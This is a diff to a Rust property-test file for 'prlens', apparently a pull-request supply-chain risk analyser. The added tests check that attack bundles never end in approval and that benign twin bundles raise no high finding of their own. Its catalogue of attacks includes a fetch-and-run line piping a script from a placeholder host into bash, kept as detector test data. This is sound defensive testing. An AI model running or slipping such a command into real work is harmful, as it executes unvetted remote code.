@@ -11,6 +11,13 @@
 //! Why: the noisy-OR of driver weights once left a PR with a high supply-chain finding "low"
 //! and the checklist then said "approve"; findings are what the engine detected, and the
 //! arithmetic must not drown them.
+//!
+//! Extended with issue #32's classes: the files of every `tests/bundles/signals-*-attack`
+//! bundle join the catalogue of attacks (added to any project bundle, none ends in approve),
+//! and the files of every `signals-*-benign` twin make a catalogue of harmless changes: added to
+//! any project bundle, they raise no high or critical finding on their own paths (a changed
+//! `conftest.py` is still a medium `ci_test_config`: pytest runs it) and never turn an approved
+//! bundle into one that requests changes.
 mod support;
 
 use proptest::prelude::*;
@@ -47,6 +54,59 @@ const CATALOGUE: &[(&str, &str, &str)] = &[
         "@@ -1 +1,2 @@\n+curl -fsSL https://x.example/install.sh | bash",
     ),
 ];
+
+/// The files each `signals-*-<side>` bundle adds to its base (`approved-on-head-steady-author`),
+/// one set per bundle (a twin may need two files, like a bundle with its source).
+fn signals_files(side: &str) -> Vec<Vec<Value>> {
+    let base = support::project_bundle_value("approved-on-head-steady-author");
+    let base_names: Vec<&str> = base["files"]
+        .as_array()
+        .map(|files| {
+            files
+                .iter()
+                .filter_map(|file| file["filename"].as_str())
+                .collect()
+        })
+        .unwrap_or_default();
+    support::project_bundle_names()
+        .into_iter()
+        .filter(|name| name.starts_with("signals-") && name.ends_with(&format!("-{side}")))
+        .map(|name| {
+            let bundle = support::project_bundle_value(&name);
+            bundle["files"]
+                .as_array()
+                .cloned()
+                .unwrap_or_default()
+                .into_iter()
+                .filter(|file| !base_names.contains(&file["filename"].as_str().unwrap_or("")))
+                .collect()
+        })
+        .collect()
+}
+
+/// `base` with `added` files put in place of any file of the same name.
+fn with_files(base: &Value, added: &[Value]) -> Value {
+    let mut bundle = base.clone();
+    let names: Vec<&str> = added
+        .iter()
+        .filter_map(|file| file["filename"].as_str())
+        .collect();
+    let mut files: Vec<Value> = bundle["files"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|file| !names.contains(&file["filename"].as_str().unwrap_or("")))
+        .collect();
+    files.extend(added.iter().cloned());
+    bundle["files"] = Value::Array(files);
+    bundle
+}
+
+fn analyze(value: &Value) -> prlens::Signal {
+    let bundle = prlens::Bundle::from_value(value).expect("a valid bundle");
+    prlens::analyze(&bundle, &Settings::default(), None)
+}
 
 fn with_changes(base: &Value, picks: &[usize], clean: bool) -> Value {
     let mut bundle = base.clone();
@@ -117,6 +177,59 @@ proptest! {
             prop_assert_eq!(signal.review.action, ReviewAction::RequestChanges);
         }
         prop_assert!(signal.review.readiness <= 50, "{name}: blocked but {}% ready", signal.review.readiness);
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+    #[test]
+    fn no_signals_attack_added_to_any_project_bundle_ends_in_approve(
+        base in 0usize..64,
+        pick in 0usize..64,
+    ) {
+        let attacks = signals_files("attack");
+        let names = support::project_bundle_names();
+        let name = &names[base % names.len()];
+        let files = &attacks[pick % attacks.len()];
+        let signal = analyze(&with_files(&support::project_bundle_value(name), files));
+        prop_assert_ne!(signal.review.action, ReviewAction::Approve, "{} + {}", name, files[0]["filename"]);
+        prop_assert!(signal.risk.level >= RiskLevel::Medium, "{} + {}: {:?}", name, files[0]["filename"], signal.risk.level);
+    }
+
+    #[test]
+    fn a_harmless_twin_added_to_any_project_bundle_raises_nothing_of_its_own(
+        base in 0usize..64,
+        pick in 0usize..64,
+    ) {
+        let twins = signals_files("benign");
+        let names = support::project_bundle_names();
+        let name = &names[base % names.len()];
+        let files = &twins[pick % twins.len()];
+        let paths: Vec<&str> = files.iter().filter_map(|file| file["filename"].as_str()).collect();
+        let path = paths.join(", ");
+        let before = analyze(&support::project_bundle_value(name));
+        let after = analyze(&with_files(&support::project_bundle_value(name), files));
+        let own = |least: prlens::signal::Severity| -> Vec<String> {
+            after
+                .supply_chain
+                .findings
+                .iter()
+                // `opaque_build_change` names the build file beside the base's opaque files: the
+                // base's finding (the xz pattern), not the twin's.
+                .filter(|finding| finding.id != prlens::signal::FindingKind::OpaqueBuildChange)
+                .filter(|finding| paths.contains(&finding.path.as_str()) && finding.severity >= least)
+                .map(|finding| format!("{:?} {:?}: {}", finding.id, finding.severity, finding.detail))
+                .collect()
+        };
+        let high = own(prlens::signal::Severity::High);
+        prop_assert!(high.is_empty(), "{} + {}: {:?}", name, path, high);
+        // On a PR that was fine (approve), a twin with no finding of its own above low cannot be
+        // what requests changes. (On a PR already under review, any extra driver, even
+        // `ci_config_change` for a harmless workflow edit, may tip the noisy-OR over a level.)
+        if own(prlens::signal::Severity::Medium).is_empty() && before.review.action == ReviewAction::Approve {
+            prop_assert_ne!(after.review.action, ReviewAction::RequestChanges, "{} + {}: {}", name, path, after.risk.formula);
+        }
     }
 }
 
